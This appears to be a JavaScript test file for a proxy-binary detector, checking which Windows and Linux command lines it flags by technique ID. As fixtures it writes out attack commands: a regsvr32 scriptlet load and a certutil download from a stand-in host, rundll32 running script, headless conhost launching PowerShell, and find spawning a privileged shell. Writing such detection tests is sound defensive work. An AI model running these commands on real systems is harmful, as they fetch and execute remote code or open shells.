import assert from 'node:assert/strict';
import { test } from 'node:test';
import { proxyBinaryDetector as d } from './proxy-binary.js';
import { ev, techniquesOf } from './test-helpers.js';

test('rundll32 running javascript: is reported (T0853 from the catalogue pattern)', () => {
  const e = ev({
    exe: 'C:\\Windows\\System32\\rundll32.exe',
    cmd: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
  });
  assert.deepEqual(techniquesOf(d, e), ['T0853']);
  assert.match(d.detect(e)[0]?.reason ?? '', /rundll32-script-url/);
});

test('regsvr32 scriptlet from a URL is T0894 and names the pattern', () => {
  const f = d.detect(
    ev({ exe: 'C:\\Windows\\System32\\regsvr32.exe', cmd: 'regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll' }),
  );
  assert.ok(f.some((x) => x.technique === 'T0894' && x.detector === 'proxy-binary'));
});

test('a renamed proxy binary is still recognised by OriginalFileName', () => {
  const e = ev({
    exe: 'C:\\Users\\u\\AppData\\Local\\Temp\\x.exe',
    ofn: 'certutil.exe',
    cmd: 'x.exe -urlcache -split -f http://x.example/p.exe p.exe',
  });
  assert.ok(techniquesOf(d, e).includes('T0894'));
  assert.match(d.detect(e)[0]?.reason ?? '', /renamed copy of certutil\.exe/);
});

test('conhost --headless powershell: proxy plus a shell (T0807)', () => {
  const e = ev({ exe: 'C:\\Windows\\System32\\conhost.exe', cmd: 'conhost  --headless powershell calc' });
  assert.deepEqual(techniquesOf(d, e), ['T0807', 'T0894']);
});

test('shells and PowerShell starting are not alerts by themselves', () => {
  assert.deepEqual(techniquesOf(d, ev({ exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c dir' })), []);
  assert.deepEqual(
    techniquesOf(
      d,
      ev({
        exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        cmd: 'powershell.exe -File C:\\scripts\\a.ps1',
      }),
    ),
    [],
  );
  assert.deepEqual(techniquesOf(d, ev({ exe: '/usr/bin/bash', args: ['bash', '-c', 'ls'] })), []);
});

test('ordinary use of proxy binaries is not reported', () => {
  assert.deepEqual(
    techniquesOf(
      d,
      ev({ exe: 'C:\\Windows\\System32\\conhost.exe', cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1' }),
    ),
    [],
  );
  assert.deepEqual(
    techniquesOf(d, ev({ exe: 'C:\\Windows\\hh.exe', cmd: '"C:\\Windows\\hh.exe" C:\\Windows\\Help\\mmc.chm' })),
    [],
  );
  assert.deepEqual(
    techniquesOf(d, ev({ exe: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe shell32.dll,Control_RunDLLAsUser' }))
      .length,
    0,
  );
});

test('Linux: find -exec /bin/sh is reported, find -name is not', () => {
  assert.ok(
    techniquesOf(d, ev({ exe: '/usr/bin/find', args: ['find', '.', '-exec', '/bin/sh', '-p', ';', '-quit'] })).includes('T0807'),
  );
  assert.deepEqual(techniquesOf(d, ev({ exe: '/usr/bin/find', args: ['find', '/var/log', '-name', '*.gz'] })), []);
});
